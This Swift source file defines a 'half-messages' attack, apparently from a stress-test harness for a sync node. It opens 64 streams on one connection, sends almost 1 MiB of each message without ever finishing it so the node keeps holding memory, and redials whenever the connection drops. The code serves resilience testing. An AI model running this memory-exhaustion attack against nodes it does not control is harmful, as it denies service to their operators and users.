import AnySyncNet
import AnySyncWire
import PushNode

extension Attack {
    /// Requests that never end: each holds memory at the node until somebody gives it up.
    static let halfMessages = Attack(
        name: "half-messages", abstract: "one connection, 64 streams with a message of almost 1 MiB that never ends",
        kinds: [.yamux, .tlsYamux, .quic]
    ) { site in
        let peer = try AttackPeer(site.node, on: try EventLoop())
        var connection = try await peer.dial()
        site.begun()
        while !Task.isCancelled {
            // As long as they are held, nothing more is to be done.
            await withDiscardingTaskGroup { group in
                for _ in 0..<64 {
                    group.addTask { [connection] in await hold(on: connection, site.tally) }
                }
            }
            try await Task.sleep(for: .milliseconds(100))
            if await connection.status.closed != nil {
                site.tally.add("connections lost")
                do { connection = try await peer.dial() } catch { site.tally.add("dials refused") }
            }
        }
    }

    /// Sends all of a message but its end, and waits for the stream's.
    private static func hold(on connection: any Connection, _ tally: Tally) async {
        do {
            let stream = try await RawStream.open(on: connection)
            try await stream.write(
                RawStream.frame(.invoke, Array(PushRPC.subscribeAll.rawValue.utf8), call: 1, message: 1))
            let piece = [UInt8](repeating: 7, count: 65_536)
            for _ in 0..<15 {
                try await stream.write(RawStream.frame(.message, piece, call: 1, message: 2, isDone: false))
            }
            tally.add("messages held")
            while try await stream.read() != nil {}
            tally.add("streams ended")
        } catch {
            tally.add("streams reset")
        }
    }
}
